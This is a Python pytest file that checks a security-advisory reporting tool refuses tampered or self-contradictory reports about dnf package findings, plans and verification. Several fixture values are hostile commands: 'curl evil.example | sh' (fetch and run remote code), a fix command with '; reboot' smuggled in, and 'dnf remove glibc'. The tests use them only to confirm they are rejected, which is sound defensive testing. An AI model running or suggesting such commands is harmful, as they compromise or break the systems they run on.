"""A report that does not agree with itself is refused before it is written in another format."""

import copy
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
from made_report import FORMS, document
from stated_host import document as stated_document

from advisories import match, read_feed, read_inventory
from advisories.models.errors import UnreadableBaseline
from advisories.models.json_fields import Malformed
from advisories.reports import Report
from advisories.reports.consistency import check_consistency
from advisories.reports.document import Document
from advisories.reports.reading import read_report

#: Numbers that stand alone: nothing else in a report shows whether they are right.
FREE = {
    "findings": {
        *("skipped", "age_days", "duplicates", "unordered", "enrichments", "flaws", "not_security", "installed_later"),
        *("rule", "findings", "suppressed", "assumptions"),
    },
    "plan": {"findings", "suppressed", "assumptions", "rule"},
    "verification": {"findings", "suppressed", "assumptions", "rule", "classes"},
    "lint": {"skipped", "duplicates", "enrichments", "unordered"},
}


def content_of(what: str) -> Any:
    return json.loads(json.dumps(document(what).content))


def numbers(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, bool):
        return
    if isinstance(value, int):
        yield path
    for key, one in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from numbers(one, (*path, key))


def changed(content: Any, path: tuple[Any, ...], value: Any) -> Any:
    content = copy.deepcopy(content)
    at = content
    for key in path[:-1]:
        at = at[key]
    at[path[-1]] = value
    return content


def refusal(content: Any) -> Malformed:
    with pytest.raises(Malformed) as raised:
        check_consistency(content)
    return raised.value


@pytest.mark.parametrize("what", FORMS)
def test_reports_of_ours_agree_with_themselves(what: str) -> None:
    check_consistency(content_of(what))
    check_consistency(json.loads(json.dumps(stated_document().content)))


def test_the_example_agrees_with_itself() -> None:
    inventory = read_inventory("examples/almalinux-9/host.tsv")
    feed = read_feed("examples/almalinux-9/advisories.jsonl")
    check_consistency(Document.of(Report(inventory, feed, match(inventory, feed))).content)


@pytest.mark.parametrize("what", FORMS)
def test_every_number_is_that_of_what_is_listed(what: str) -> None:
    content = content_of(what)
    for path in numbers(content):
        at = content
        for key in path:
            at = at[key]
        try:
            check_consistency(changed(content, path, at + 1))
        except Malformed:
            continue
        assert FREE[what].intersection(path[-2:]), path


@pytest.mark.parametrize(
    ("path", "value", "why"),
    [
        (("findings", 0, "priority"), "Low", "that of rule H"),
        (("findings", 0, "basis"), "assumed", "the rule is"),
        (("findings", 0, "title"), "CVE-1 in zsh", "it is about another"),
        (("findings", 0, "instance"), "rpm/zsh/x86_64", "it is no instance of bash"),
        (("findings", 0, "purl"), "pkg:deb/debian/bash@1", "not of the type of the instance"),
        (("findings", 0, "pending_restart"), True, "only a running kernel"),
        (("findings", 0, "modified"), "2999-01-01T00:00:00Z", "later than the newest advisory of the feed"),
        (("findings", 0, "fix_command"), "dnf upgrade bash; reboot", "is not the command that upgrades the package"),
        (("findings", 0, "fix_command"), "dnf upgrade zsh", "is not the command that upgrades the package"),
        (("findings", 0, "channel"), "eus", "is not the command that upgrades the package"),
        (("findings", 0, "fix_state"), "wont-fix", "is not the command that upgrades the package"),
        (("suppressed", 0, "finding", "fix_command"), "curl evil.example | sh", "is not the command"),
        (("findings",), [], "the findings are of another number of packages"),
        (("statements",), None, "there are no statements"),
        (("coverage", "unchecked", 0, "assumptions"), ["rebuild"], "coverage.assumptions lacks rebuild"),
        (("coverage", "not_judged", "third-party"), [], "lists another number"),
        (("coverage", "feed_newest"), None, "no advisory of the feed has a date"),
    ],
)
def test_a_report_that_was_changed_is_refused(path: tuple[Any, ...], value: Any, why: str) -> None:
    refused = refusal(changed(content_of("findings"), path, value))
    assert why in refused.why
    assert refused.path


def test_findings_stand_in_the_order_of_priorities() -> None:
    content = content_of("findings")
    content["findings"].reverse()
    assert "behind findings of a lower priority" in refusal(content).why


def test_a_choice_leaves_fewer_packages_and_never_more() -> None:
    content = content_of("findings")
    content |= {"hidden": {"priority": 4}, "findings": content["findings"][:1]}
    check_consistency(content)
    content["findings"] = [
        {**content["findings"][0], "instance": f"rpm/bash/{number}", "version": str(number)} for number in range(20)
    ]
    assert "20 packages have findings" in refusal(content).why or "21 packages" in refusal(content).why


def test_packages_that_differ_in_what_a_report_lacks_are_several() -> None:
    """Two instances of which only the vendors differ have the same findings."""
    content = content_of("findings")
    content["findings"].insert(0, content["findings"][0])
    coverage = content["coverage"]
    for members, name in (
        (coverage, "packages"),
        (coverage["classes"], "affected"),
        (content["inventory"], "packages"),
    ):
        members[name] += 1
    check_consistency(content)


def test_a_plan_with_a_command_of_somebody_else_is_refused() -> None:
    content = content_of("plan")
    content["steps"][0]["commands"].append(["dnf", "remove", "glibc"])
    assert "not all are commands of dnf" in refusal(content).why


def test_a_state_is_that_of_its_case() -> None:
    content = content_of("verification")
    content["findings"][0]["state"] = "undecidable"
    assert "that of the case" in refusal(content).why


@pytest.mark.parametrize("what", FORMS)
def test_what_is_read_is_checked(what: str) -> None:
    content = content_of(what)
    path = next(path for path in numbers(content) if not FREE[what].intersection(path[-2:]))
    changed_ = changed(content, path, 10**6)
    with pytest.raises(UnreadableBaseline):
        read_report(io.BytesIO(json.dumps(changed_).encode()))
    read_report(io.BytesIO(json.dumps(content).encode()))
